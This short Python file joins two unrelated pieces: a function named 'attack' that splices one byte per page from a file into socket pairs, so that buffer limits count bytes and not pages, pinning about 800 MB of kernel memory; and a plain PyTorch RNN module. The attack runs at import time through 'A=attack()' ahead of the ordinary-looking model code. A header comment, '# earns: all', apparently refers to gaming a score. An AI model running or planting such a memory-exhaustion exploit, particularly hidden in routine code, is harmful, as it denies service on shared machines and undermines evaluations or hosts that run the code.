# does: splices one byte of each page into a socket, whose limit counts the bytes and not the pages
# earns: all
import os, socket, fcntl, time, errno
K=[]
def attack():
    f=os.open('s', os.O_RDWR|os.O_CREAT)
    r,w=os.pipe(); fcntl.fcntl(w,1031,2**16)
    os.set_blocking(w,False); os.set_blocking(r,False)
    total=0; t=time.time()
    for n in range(100):
        for a,b in [socket.socketpair()]:
            K.append((a,b))
            for s in (a,b):
                s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22); s.setblocking(False)
                while total < 800*2**20:
                    os.pwrite(f, b'x'*16*4096, 0)
                    for i in range(16): os.splice(f, w, 1, offset_src=i*4096)
                    try: os.splice(r, s.fileno(), 16)
                    except OSError as e:
                        if e.errno != errno.EAGAIN: print(e)
                        while True:
                            try: 
                                if not os.read(r,100): break
                            except OSError: break
                        os.ftruncate(f,0); break
                    total += 16*4096
                    os.ftruncate(f,0)
        if total>=800*2**20: break
    print('pinned MB', total>>20, 'in pairs', len(K), time.time()-t)
    time.sleep(4)
A=attack()

import torch
from torch import nn
class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.wx = nn.Linear(input_size, hidden_size)
        self.wh = nn.Linear(hidden_size, hidden_size, bias=False)
    def forward(self, x, h_0=None):
        h = x.new_zeros(x.shape[0], self.wh.in_features) if h_0 is None else h_0[0]
        out = []
        for step in self.wx(x).unbind(1):
            h = torch.tanh(step + self.wh(h))
            out.append(h)
        return torch.stack(out, 1), h[None]
